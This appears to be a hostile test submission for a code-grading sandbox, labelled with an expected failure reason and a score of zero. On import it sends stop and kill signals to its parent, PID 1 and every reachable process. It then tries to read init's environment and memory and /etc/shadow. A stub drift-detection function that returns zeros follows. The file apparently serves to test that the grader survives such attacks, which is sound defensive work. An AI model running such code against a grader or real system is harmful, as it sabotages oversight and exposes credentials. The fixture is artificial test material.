# expect-reason: kl_mismatch
# expect-score: 0
"""Signals every process it can name (its parents, PID 1, -1) and reads their memory and
environment; the grader and its workers must go on (the next submission is graded)."""
import os
import signal

for pid in (os.getppid(), 1, 2, -1, 0):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid != 0 and pid != os.getpid():
                os.kill(pid, sig)
        except OSError:
            pass
for path in ("/proc/1/environ", "/proc/1/mem", f"/proc/{os.getppid()}/environ", "/proc/1/root/etc/shadow"):
    try:
        open(path, "rb").read(10)
    except OSError:
        pass


def detect_drift(old_df, new_df, threshold=0.1):
    return {c: 0.0 for c in old_df.columns}
